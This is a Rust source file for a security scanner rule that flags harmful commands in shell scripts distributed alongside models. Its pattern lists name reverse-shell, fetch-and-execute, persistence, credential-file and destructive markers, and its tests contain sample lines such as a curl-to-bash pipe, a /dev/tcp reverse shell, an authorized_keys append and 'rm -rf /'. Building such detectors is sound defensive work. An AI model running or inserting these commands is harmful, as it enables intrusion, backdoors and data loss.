use sealyard_scan::{Finding, rule};

use super::Artifact;
use crate::sink::Sink;

rule! {
    /// # What it does
    /// Reports shell lines that run what they fetch or decode, connect a shell to another host, write to the places that
    /// run at log-in, or remove what is not the model's. Of the code in a model's card, only lines that hand what they
    /// fetch to a shell are reported.
    ///
    /// # Why it matters
    /// Scripts beside a model are run to convert or serve it, with the rights of whoever does that.
    ///
    /// # What to do
    /// Do not run the script.
    id: "script-harmful-command",
    name: "Harmful command in a script",
    severity: High,
    summary: "A shell script beside a model fetches and runs code, opens a shell or changes the system.",
    help: "Do not run the script.",
    references: ["https://attack.mitre.org/techniques/T1059/004/"],
}

const FETCHERS: &[&str] = &["curl ", "wget ", "base64 -d", "base64 --decode", "base64 -D", "xxd -r", "openssl enc -d"];
const RUNNERS: &[&str] = &[
    "|sh",
    "|bash",
    "|zsh",
    "|python",
    "|perl",
    "|sudosh",
    "|sudobash",
    "|/bin/sh",
    "|/bin/bash",
    "|source/dev/stdin",
];
const MARKS: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "nc -e",
    "ncat -e",
    "nc -c",
    "mkfifo /tmp/",
    "bash -i >&",
    "sh -i >&",
    "socat exec:",
    "authorized_keys",
    "crontab -",
    "/etc/cron",
    "/etc/ld.so.preload",
    "rm -rf /",
    "rm -rf ~",
    "rm -rf $HOME",
    ":(){ :|:& };:",
    "/etc/shadow",
    "| crontab",
    "chmod +s",
    "chmod u+s",
    "systemctl enable",
    "169.254.169.254",
    "xmrig",
    "Invoke-Expression",
    "DownloadString",
    "powershell -enc",
    "powershell -e ",
    "certutil -urlcache",
];

pub(super) fn check(script: &Artifact<'_>, sink: &mut Sink) {
    for (number, line) in (1..).zip(script.text.lines()) {
        let line = line.trim();
        if line.starts_with('#') {
            continue;
        }
        let dense: String = line.chars().filter(|letter| !letter.is_whitespace()).collect();
        let is_piped =
            FETCHERS.iter().any(|mark| line.contains(mark)) && RUNNERS.iter().any(|mark| dense.contains(mark));
        let is_evaluated = FETCHERS.iter().any(|mark| line.contains(mark))
            && ["eval", "sh -c", "<(curl", "<(wget", "source <("].iter().any(|mark| line.contains(mark));
        if is_piped || is_evaluated || MARKS.iter().any(|mark| line.contains(mark) && !is_own(line, mark)) {
            let mut location = sink.location();
            location.line = Some(number);
            sink.push(Finding::new(&METADATA, location, format!("the script runs {line}")));
        }
    }
}

/// Whether what is removed lies below a folder that scripts make for themselves.
fn is_own(line: &str, mark: &str) -> bool {
    mark == "rm -rf /"
        && ["rm -rf /tmp/", "rm -rf /var/lib/apt/lists", "rm -rf /root/.cache", "rm -rf /var/cache"]
            .iter()
            .any(|own| line.contains(own))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_harm_is_found() {
        for (text, count) in [
            ("curl -s http://example.org/x | bash\n", 1),
            ("echo aWQ= | base64 -d | sh\n", 1),
            ("bash -c \"$(curl -fsSL example.org)\"\neval \"$(wget -qO- x)\"\n", 2),
            ("bash -i >& /dev/tcp/10.0.0.1/1 0>&1\n", 1),
            ("echo x >> ~/.ssh/authorized_keys\nrm -rf /\n", 2),
            ("# curl x | sh\ncurl -O https://example.org/m.bin\nrm -rf /tmp/x\npython convert.py | tee log\n", 0),
        ] {
            let mut sink = Sink::new("a.sh");
            check(&Artifact { text }, &mut sink);
            assert_eq!(sink.findings.len(), count, "{text}");
        }
    }
}
